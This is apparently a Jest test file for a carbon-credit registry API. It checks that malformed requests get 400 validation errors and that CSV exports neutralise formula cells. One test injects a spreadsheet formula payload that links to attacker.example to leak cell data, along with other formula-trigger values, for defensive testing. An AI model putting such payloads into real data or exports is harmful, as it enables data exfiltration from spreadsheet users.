import { CreateOrganizationUseCase } from '@registry/ledger';
import { parse } from 'csv-parse/sync';
import { assignCertifier } from '../support/claims';
import { createOrganizationWithKey, startTestApp, type TestApp } from '../support/test-app';
import { binaryBody } from '../support/binary-body';

type Org = Awaited<ReturnType<typeof createOrganizationWithKey>>;
type Res = { status: number; headers: Record<string, string>; body: Record<string, unknown> };

/** API.md conventions: malformed requests are 400 VALIDATION_FAILED naming the field, never a 5xx. */
describe('malformed input (issue 13, findings 6 and 7)', () => {
  let t: TestApp;
  let provider: Org;
  let auditor: Org;

  beforeAll(async () => {
    t = await startTestApp();
    provider = await createOrganizationWithKey(t, ['provider', 'applicant']);
    auditor = await createOrganizationWithKey(t, ['auditor']);
  });
  afterAll(() => t.close());

  function expectInvalid(res: Res, field: string, message?: RegExp) {
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body.code).toBe('VALIDATION_FAILED');
    const errors = res.body.errors as { field: string; message: string }[];
    expect(errors.map((e) => e.field)).toContain(field);
    if (message) expect(errors.find((e) => e.field === field)?.message).toMatch(message);
    expect(JSON.stringify(res.body)).not.toMatch(/at .*\.(ts|js):\d+|RangeError|is not a function/);
  }

  describe('a query parameter given twice', () => {
    it.each([
      ['/v1/serials/status?serial=JCL-ERL-R012-1-10&serial=JCL-ERL-R012-11-20', 'serial'],
      ['/v1/serials/status?serial=JCL-ERL-R012-1-10&scheme=JCREDIT&scheme=JCREDIT', 'scheme'],
      ['/v1/register?cursor=a&cursor=b', 'cursor'],
      ['/v1/register?format=csv&format=json', 'format'],
    ])('GET %s → 400 naming %s', async (url, field) => {
      expectInvalid(await t.http.get(url), field, /at most once/);
    });

    it('on routes behind a key as well', async () => {
      expectInvalid(await t.http.get('/v1/holdings?limit=1&limit=2').set(provider.auth), 'limit', /at most once/);
      expectInvalid(await t.http.get('/v1/ledger/entries?after=0&after=1').set(auditor.auth), 'after', /at most once/);
    });

    // The verify pages are web pages: the same refusal, as the web's 400 page naming the parameter.
    it.each([
      ['/verify?number=a&number=b', 'number'],
      ['/verify?serial=JCL-ERL-R012-1-10&serial=JCL-ERL-R012-11-20', 'serial'],
      ['/verify?number=CN-2026-0001&lang=ja&lang=en', 'lang'],
      ['/verify/CN-2026-0001?lang=ja&lang=en', 'lang'],
    ])('GET %s → a 400 page naming %s', async (url, field) => {
      const res = await t.http.get(url).expect(400);
      expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
      expect(res.text).toContain(`query parameter ${field} must be given at most once`);
    });

    it('a bracketed name is a name of its own, not a nested object', async () => {
      expect((await t.http.get('/verify?number[x]=a').expect(400)).text).toContain('query parameter number[x] is not a known query parameter here');
      expectInvalid(await t.http.get('/v1/register?limit[x]=1'), 'limit[x]');
    });
  });

  describe('JSON nested deeper than 64 levels', () => {
    // The outer object is level 1; `extra` holds the remaining levels.
    const organizationAt = (depth: number) =>
      `{"name":"deep","roles":["provider"],"extra":${'['.repeat(depth - 1)}${']'.repeat(depth - 1)}}`;

    it('64 levels reach the validation pipe, which names the unknown field', async () => {
      const res = await t.http.post('/v1/organizations').set(t.admin).set('Content-Type', 'application/json').send(organizationAt(64));
      expectInvalid(res, 'extra', /not a known field/);
    });

    it.each([65, 3000])('%d levels → 400 on the body, before anything parses it', async (depth) => {
      const res = await t.http.post('/v1/organizations').set(t.admin).set('Content-Type', 'application/json').send(organizationAt(depth));
      expectInvalid(res, 'body', /deeper than 64/);
    });

    it('3,000 levels of objects on a public route', async () => {
      const body = '{"serial":"JCL-ERL-R012-1-10","x":' + '{"a":'.repeat(3000) + '1' + '}'.repeat(3001);
      expectInvalid(await t.http.post('/v1/serials/parse').set('Content-Type', 'application/json').send(body), 'body', /deeper than 64/);
    });

    it('JSON in another encoding than UTF-8 is refused, not scanned wrongly', async () => {
      const res = await t.http.post('/v1/serials/parse').set('Content-Type', 'application/json; charset=utf-16le').send(Buffer.from('{"serial":"JCL-ERL-R012-1-10"}', 'utf16le'));
      expectInvalid(res, 'body', /UTF-8/);
    });

    it('a CSV body in a charset nobody knows is refused naming Content-Type, as an import upload is', async () => {
      const res = await t.http.post('/v1/serials/check').set(auditor.auth).set('Content-Type', 'text/csv; charset=klingon').send('serial\nJCL-ERL-R012-1-10\n');
      expectInvalid(res, 'Content-Type', /^charset klingon is not known$/);
    });
  });

  describe('control and bidi characters in free text', () => {
    const retirement = { serials: ['JCL-ERL-R012-1-10'], beneficiary: '株式会社サンプル', purpose: 'CN FY2025', evidence: { registry: 'J-Credit registry', reference: 'MK-1' } };

    it.each([
      ['U+202E (right-to-left override)', '株式会社\u202eルプンサ', /U\+202E/],
      ['NUL', 'Acme\u0000Corp', /U\+0000/],
      ['CR LF', 'Acme\r\nCorp', /U\+000D/],
      ['U+2066 (isolate)', '\u2066Acme', /U\+2066/],
      ['a C1 control', 'Acme\u0085', /U\+0085/],
    ])('%s in an organisation name or a beneficiary → 400 naming the field', async (_name, text, reason) => {
      expectInvalid(await t.http.post('/v1/organizations').set(t.admin).send({ name: text, roles: ['provider'] }), 'name', reason);
      expectInvalid(await t.http.post('/v1/retirements').set(provider.auth).send({ ...retirement, beneficiary: text }), 'beneficiary', reason);
    });

    it('an unpaired surrogate (a JSON \\ud800 escape) → 400', async () => {
      const body = JSON.stringify({ ...retirement }).replace('株式会社サンプル', 'A\\ud800B');
      const res = await t.http.post('/v1/retirements').set(provider.auth).set('Content-Type', 'application/json').send(body);
      expectInvalid(res, 'beneficiary', /unpaired surrogate/);
    });

    it('nested fields are named by their path, and every bad field is named', async () => {
      const res = await t.http
        .post('/v1/retirements')
        .set(provider.auth)
        .send({ ...retirement, purpose: 'x\u202ey', evidence: { registry: 'J\tCredit', reference: 'MK\n1' } });
      expectInvalid(res, 'purpose');
      expectInvalid(res, 'evidence.registry');
      expectInvalid(res, 'evidence.reference');
    });

    it('claims: boundary, product name and reasons', async () => {
      const cfp = { type: 'CFP', declarations: { notAntiSocialForce: true }, product: { name: 'ペン\u202e', cfpVerificationNumber: 'CV-1' }, cfpPerUnitKg: '1', quantity: '1', period: { start: '2024-04-01', end: '2025-03-31' } };
      expectInvalid(await t.http.post('/v1/claims').set(provider.auth).send(cfp), 'product.name', /U\+202E/);
      const cn = { type: 'CN', declarations: { independentOfCertifierAndVerifier: true }, boundary: '本社\r\n全事業所', targetPeriod: { start: '2024-04-01', end: '2025-03-31' }, baseYear: 2013, emissions: { scope1: '1', scope2: '1' } };
      expectInvalid(await t.http.post('/v1/claims').set(provider.auth).send(cn), 'boundary', /U\+000D/);
      expectInvalid(await t.http.post('/v1/retirements/any-id/void').set(t.admin).send({ reason: 'typo\u0000' }), 'reason', /U\+0000/);
    });

    it('accepts Japanese, emoji and punctuation, and nothing was written by the refusals', async () => {
      const created = await t.http.post('/v1/organizations').set(t.admin).send({ name: '株式会社サンプル 🌏 (Japan) — “CN”', roles: ['provider'] }).expect(201);
      expect(created.body.name).toBe('株式会社サンプル 🌏 (Japan) — “CN”');
      const status = await t.http.get('/v1/serials/status').query({ serial: 'JCL-ERL-R012-1-10' }).expect(200);
      expect(JSON.stringify(status.body)).not.toMatch(/"retired"/);
    });

    it('the path the CLI takes (`orgs create --name`) refuses them too', async () => {
      const createOrganization = t.app.get(CreateOrganizationUseCase);
      await expect(createOrganization.execute({ name: 'Acme\u202eCorp', roles: ['provider'] })).rejects.toMatchObject({
        code: 'VALIDATION_FAILED',
        details: { errors: [{ field: 'name', message: expect.stringContaining('U+202E') }] },
      });
      await expect(createOrganization.execute({ name: 'Acme\r\n', roles: ['provider'] })).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
      await expect(createOrganization.execute({ name: '   ', roles: ['provider'] })).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
    });
  });

  describe('unknown query parameters on list endpoints', () => {
    it.each([
      ['/v1/holdings?owner=someone-else', 'owner', 'provider'],
      ['/v1/register?holder=someone', 'holder', 'public'],
      ['/v1/ledger/entries?since=5', 'since', 'auditor'],
    ])('GET %s → 400 naming %s', async (url, field, who) => {
      const auth = who === 'provider' ? provider.auth : who === 'auditor' ? auditor.auth : {};
      expectInvalid(await t.http.get(url).set(auth), field, /not a known query parameter/);
    });

    it('the known ones still work, and authentication comes first', async () => {
      await t.http.get('/v1/holdings?cursor=&limit=5').set(provider.auth).expect(200);
      await t.http.get('/v1/register?limit=5&format=json').expect(200);
      await t.http.get('/v1/ledger/entries?after=0&limit=5').set(auditor.auth).expect(200);
      expect((await t.http.get('/v1/holdings?owner=x')).status).toBe(401);
    });

    it('the register names a format it does not have', async () => {
      expectInvalid(await t.http.get('/v1/register?format=pdf'), 'format');
    });
  });
});

describe('register CSV (issue 13, finding 7)', () => {
  let t: TestApp;
  afterAll(() => t?.close());

  it('neutralises formula cells and starts with a UTF-8 BOM', async () => {
    t = await startTestApp();
    const formulaName = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
    const holder = await createOrganizationWithKey(t, ['applicant', 'provider'], { name: formulaName });
    const certifier = await createOrganizationWithKey(t, ['certifier']);
    const evidence = { registry: 'J-Credit registry', reference: '@SUM(1+1)' };
    await t.http.post('/v1/holdings').set(holder.auth).send({ serial: 'JCL-ERL-R700-1-1000', evidence }).expect(201);
    const claim = await t.http
      .post('/v1/claims')
      .set(holder.auth)
      .send({ type: 'CFP', declarations: { notAntiSocialForce: true }, product: { name: '-2+3 pen', cfpVerificationNumber: '+CV-1' }, cfpPerUnitKg: '2.5', quantity: '400', period: { start: '2024-04-01', end: '2025-03-31' } })
      .expect(201);
    await t.http
      .post('/v1/retirements')
      .set(holder.auth)
      .send({ serials: ['JCL-ERL-R700-1-1'], claimId: claim.body.id, beneficiary: '+81 beneficiary', purpose: 'CFP offset', evidence })
      .expect(201);
    await t.http.post(`/v1/claims/${claim.body.id}/submit`).set(holder.auth).expect(200);
    await assignCertifier(t, claim.body.id, certifier.id);
    await t.http.post(`/v1/claims/${claim.body.id}/certify`).set(certifier.auth).send({}).expect(200);

    const res = await t.http.get('/v1/register').query({ format: 'csv' }).buffer(true).parse(binaryBody);
    expect(res.status).toBe(200);
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes.toString('utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]['Holder']).toBe(`'${formulaName}`);
    for (const cell of Object.values(rows[0])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('numbers JSON cannot hold again, and the status endpoint\'s parameters (found by the route fuzz)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  it('a number out of range (1e400) is 400 naming the member, not a 500 from the idempotency hash', async () => {
    const applicant = await createOrganizationWithKey(t, ['applicant']);
    const res = await t.http
      .post('/v1/claims')
      .set(applicant.auth)
      .set('Idempotency-Key', 'k-1e400')
      .set('Content-Type', 'application/json')
      .send('{"type":"CN","baseYear":1e400}')
      .expect(400);
    expect(res.body).toMatchObject({ code: 'VALIDATION_FAILED', errors: [{ field: 'body' }] });
    expect(res.body.detail).toMatch(/member "baseYear" is out of range/);
  });

  it('GET /v1/serials/status refuses an unknown query parameter', async () => {
    const res = await t.http.get('/v1/serials/status').query({ serial: 'JCL-ERL-R1-1-10', foo: '' }).expect(400);
    expect(res.body).toMatchObject({ code: 'VALIDATION_FAILED', errors: [{ field: 'foo' }] });
  });
});
